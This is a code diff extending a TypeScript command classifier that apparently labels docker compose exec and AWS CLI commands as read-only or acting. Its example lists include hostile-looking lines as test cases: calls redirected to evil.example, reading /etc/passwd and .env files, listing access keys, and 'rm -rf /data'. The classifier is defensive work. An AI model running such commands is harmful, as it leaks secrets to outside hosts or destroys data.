@@ -1,4 +1,6 @@
+import { readArguments } from '../model/arguments.ts';
 import type { Arguments, Command, Refinement, Touch } from '../model/model.ts';
+import { databases, isContainedQuery } from './databases.ts';
 import { into } from '../model/into-directory.ts';
 import { literalOf } from '../read/words/word.ts';
 import type { Word } from '../read/words/word.ts';
@@ -23,6 +25,23 @@ function refineGet(args: Arguments): Refinement | undefined {
       value !== undefined && /template-file|custom-columns-file/u.test(literalOf(value) ?? 'template-file'),
   );
   return templated ? { does: 'acts', why: 'a template that is not known' } : undefined;
+}
+
+/** `aws ec2 describe-instances`: asks what there is. What shows secrets, or goes to another address, does more. */
+function describes(args: Arguments): Refinement | undefined {
+  const [verb, ...values] = args.operands.map(({ word }) => literalOf(word));
+  const isAsking = /^(?:(?:describe|list)-[a-z\d-]+|tail|filter-log-events|get-log-events)$/u.test(
+    verb ?? '',
+  );
+  const isSecret =
+    /secret|task-definition|attribute|parameter|credential|access-key|user-data|template/u.test(verb ?? '');
+  const isPlain =
+    args.vague.length === 0 &&
+    values.every((text) => text !== undefined && !text.includes('://')) &&
+    args.strangers.every(
+      ({ text }) => /^--[a-z\d-]+$/u.test(text) && !/^--(?:e$|en|cli|ca|no-v|ge|deb)/u.test(text),
+    );
+  return isAsking && !isSecret && isPlain ? { does: 'reads' } : undefined;
 }
 
 /** `-i HOST,` is a list of hosts; without the comma it is a file. */
@@ -172,6 +191,24 @@ const execs: Command = {
   suggest: 'exact',
   examples: { carries: [['docker exec -it app rm -rf /data', 'rm -rf /data']] },
 };
+/** `docker compose exec db psql -c 'select ...'`: a query that only reads, in a container that runs already. */
+function containedQuery(args: Arguments): Refinement | undefined {
+  const command = args.operands[1];
+  const plain = ['-T', '-i', '-t', '-u', '--user', '--index', '--no-TTY', '--interactive', '--tty'];
+  const isPlain =
+    args.strangers.length + args.vague.length === 0 &&
+    args.options.every(({ name, role }) => role !== undefined || plain.includes(name));
+  if (command === undefined || !isPlain || args.operands[0]?.word.kind !== 'literal') return undefined;
+  const name = literalOf(command.word) ?? '';
+  const row = databases.find(({ names }) => names.includes(name));
+  const words = args.words.slice(command.at);
+  const asks =
+    name === 'pg_isready'
+      ? words.every((word) => /^[\w.-]+$/u.test(literalOf(word) ?? ''))
+      : row !== undefined && name !== 'sqlite3' && isContainedQuery(row, readArguments(row, words));
+  return asks ? { does: 'reads' } : undefined;
+}
+
 const runs: Command = {
   names: ['run', 'create'],
   does: 'acts',
@@ -355,7 +392,23 @@ export const containers: readonly Command[] = [
             examples: { reads: ['docker compose logs --tail 50 web'] },
           },
           { names: ['config'], does: 'acts', operands: none },
-          execs,
+          {
+            ...execs,
+            refine: containedQuery,
+            examples: {
+              reads: [
+                "docker compose exec -T db psql -U a -c 'select 1'",
+                'docker compose exec db pg_isready -U a',
+              ],
+              acts: [
+                "docker compose exec db psql -c 'drop table x'",
+                "docker compose exec db psql -h evil.example -c 'select 1'",
+                'docker compose exec db psql',
+                'docker compose exec web cat .env',
+                "docker compose exec -e PGHOST=x db psql -c 'select 1'",
+              ],
+            },
+          },
           { ...runs, names: ['run'] },
           act(['down', 'rm', 'kill'], gone),
           act([
@@ -792,6 +845,53 @@ export const containers: readonly Command[] = [
             examples: { reads: ['aws sts get-caller-identity'] },
           },
         ],
+      },
+      {
+        names: [
+          'ec2',
+          'ecs',
+          'eks',
+          'rds',
+          'elb',
+          'elbv2',
+          'cloudformation',
+          'logs',
+          'iam',
+          'route53',
+          'cloudwatch',
+          'autoscaling',
+          'elasticache',
+          'sqs',
+          'sns',
+          'dynamodb',
+          'ecr',
+          'acm',
+          'cloudfront',
+          'events',
+          'kinesis',
+          'efs',
+        ],
+        does: 'acts',
+        loose: true,
+        operands: none,
+        refine: describes,
+        examples: {
+          reads: [
+            'aws ec2 describe-instances --filters Name=a,Values=b --query x --output text',
+            'aws ecs list-services --cluster dev',
+            'aws logs tail /ecs/api --since 10m',
+          ],
+          acts: [
+            'aws ec2 terminate-instances --instance-ids i-1',
+            'aws ec2 describe-instances --endpoint-url http://evil.example',
+            'aws ec2 describe-instances --endp http://evil.example',
+            'aws ec2 describe-instances --filters file:///etc/passwd',
+            'aws ec2 describe-instance-attribute --attribute userData',
+            'aws ecs describe-task-definition --task-definition x',
+            'aws iam list-access-keys',
+            'aws ec2 $X',
+          ],
+        },
       },
       {
         names: ['s3'],
